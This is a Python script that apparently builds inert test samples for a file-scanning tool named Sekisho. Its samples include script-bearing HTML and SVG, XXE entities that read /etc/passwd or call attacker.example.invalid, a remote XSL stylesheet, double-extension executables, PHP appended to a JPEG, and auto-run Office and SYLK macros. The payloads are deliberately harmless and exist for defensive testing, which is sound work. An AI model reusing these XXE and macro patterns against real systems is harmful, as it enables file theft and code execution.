"""Regenerate the small inert samples in this folder (deterministic).

    .venv/bin/python samples/make_samples.py

Every sample is built from harmless bases (deterministic except the encrypted
ones, whose salts are random): scripts only call alert(), the
"executables" are a 64-byte DOS stub that does nothing, URLs point at
example.invalid. catalog.yaml lists what Sekisho must find in each.
"""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from PIL import Image

HERE = Path(__file__).resolve().parent
STUB_EXE = b"MZ" + b"\x00" * 58 + b"\x40\x00\x00\x00"  # DOS header only: inert
WHEN = (2026, 11, 26, 9, 0, 0)
SAMPLE_KEY = "sekisho-sample"  # the PPAP sample's password, published in catalog.yaml


def write(rel: str, data: bytes) -> None:
    path = HERE / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def html() -> None:
    write("html/notice-with-script.html", """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>住民税のお知らせ</title>
<script>alert("sekisho sample")</script></head>
<body onload="alert(1)">
<h1>住民税の申告について / Resident tax</h1>
<p>申告期限は3月15日です。<a href="https://www.example.invalid/tax">詳しくはこちら</a></p>
<img src="https://tracker.example.invalid/pixel.gif" width="1" height="1">
</body></html>
""".encode())


def svg() -> None:
    write("svg/logo-with-script.svg", b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40" onload="alert(1)">
  <script>alert("sekisho sample")</script>
  <rect width="120" height="40" fill="#1f6f4a"/>
  <text x="10" y="26" fill="white">Sekisho</text>
</svg>
""")
    # Adobe Illustrator declares namespace URIs as entities; the external one is XXE
    write("svg/illustrator-entities.svg", b"""<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 15.0.0, SVG Export Plug-In  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
\t<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
\t<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
\t<!ENTITY xxe SYSTEM "http://attacker.example.invalid/collect">
]>
<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns="http://www.w3.org/2000/svg"
\twidth="120" height="40">
  <rect width="120" height="40" fill="#1f6f4a" i:knockout="Off"/>
  <text x="10" y="26" fill="white">Sekisho&xxe;</text>
</svg>
""")


def archive() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in (("資料/議事録.txt", "第3回 企画会議 議事録\n".encode()),
                           ("資料/請求書.pdf.exe", STUB_EXE),
                           ("page.html", b"<html><body><p>hi</p><script>alert(1)</script>"
                                         b"</body></html>")):
            zf.writestr(zipfile.ZipInfo(name, WHEN), data)
    write("archive/bundle-with-exe.zip", buf.getvalue())


def image() -> None:
    im = Image.new("RGB", (32, 24), (200, 120, 40))
    exif = Image.Exif()
    exif[0x010E] = "<script>alert(1)</script>"
    buf = io.BytesIO()
    im.save(buf, "JPEG", quality=85, exif=exif.tobytes(), comment=b"sample comment")
    write("image/photo-exif-trailing.jpg", buf.getvalue() + b"<?php echo 'appended'; ?>")


def executable() -> None:
    write("executable/invoice.pdf.exe", STUB_EXE)


def pdf() -> None:
    from tests.helpers import pdfgen  # harmless 3-page base; the script only calls app.alert

    write("pdf/openaction-javascript.pdf", pdfgen.open_action_js())


def rtf() -> None:
    from tests.helpers import rtfgen

    slot = rtfgen.obj(b"\\objemb", rtfgen.ole1("Package", rtfgen.package_native(
        "readme.txt", b"inert sample payload")), b"{\\pict\\pngblip " + rtfgen.png_1x1().hex()
        .encode() + b"}", cls=b"Package")
    write("rtf/package-object.rtf", rtfgen.document(slot))


def mail() -> None:
    from tests.helpers import mailgen as g

    body = g.multipart("mixed", g.text("見積書を添付します。\nPlease find the quote attached."),
                       g.attachment("請求書.exe", STUB_EXE),
                       g.attachment("page.html", b"<html><body><p>hi</p><script>alert(1)"
                                                 b"</script></body></html>", "text/html"))
    write("mail/quote-with-exe.eml", g.message(body, subject=g.encoded_word("お見積り")))


def encrypted() -> None:
    """Password-protected files (their bytes change on every run: random salts)."""
    from tests.helpers import ooxmlgen
    from tests.helpers.archivegen import encrypted_zip

    write("archive/ppap-zipcrypto.zip", encrypted_zip(
        "zipcrypt", {"見積書.html": b"<html><body><p>quote</p><script>alert(1)</script>"
                                   b"</body></html>"}, SAMPLE_KEY))
    write("office/readonly-velvetsweatshop.xlsm",
          ooxmlgen.encrypt(ooxmlgen.xlsm(), "VelvetSweatshop"))


def odf() -> None:
    """A text document with a Basic macro run on open, an OLE object and links (the
    macro calls Shell("calc.exe"); every URL is under example.net/.lg.jp)."""
    from tests.helpers import odfgen

    write("office/notice-with-macro.odt", odfgen.odt())


def text() -> None:
    write("text/memo.txt", "会議は10時から第2会議室です。\nMeeting at 10:00, room 2.\n".encode())
    # a data file a browser opens as XML: the XHTML script runs, the DTD reads a file
    write("text/ledger-xxe-xss.xml", """<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="http://attacker.example.invalid/x.xsl"?>
<!DOCTYPE ledger [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY city "関所市">]>
<ledger xmlns:h="http://www.w3.org/1999/xhtml">
  <entry><name>&city; 台帳</name><note>&xxe;</note></entry>
  <h:script>alert("sekisho sample")</h:script>
  <h:p>詳細は<h:a href="https://www.example.invalid/ledger">こちら</h:a></h:p>
</ledger>
""".encode())
    # SYLK turned into an Excel 4.0 macro sheet run on open; the macro only shows a message
    write("text/xlm-macro.slk", b"ID;PWXL;N;E\r\nB;Y2;X2;D0 0 1 1\r\nO;L;E;D;V0;K47;G100 0.001\r\n"
          b"NN;NAuto_Open;ER1C1\r\nC;Y1;X1;KFALSE;EALERT(\"sekisho sample\")\r\n"
          b"C;Y1;X2;K\"Sekisho sample sheet\"\r\nC;Y2;X1;KTRUE;EHALT()\r\nE\r\n")


if __name__ == "__main__":
    import sys

    sys.path.insert(0, str(HERE.parent))
    for build in (html, svg, archive, image, executable, text, pdf, rtf, mail, odf,
                  encrypted):
        build()
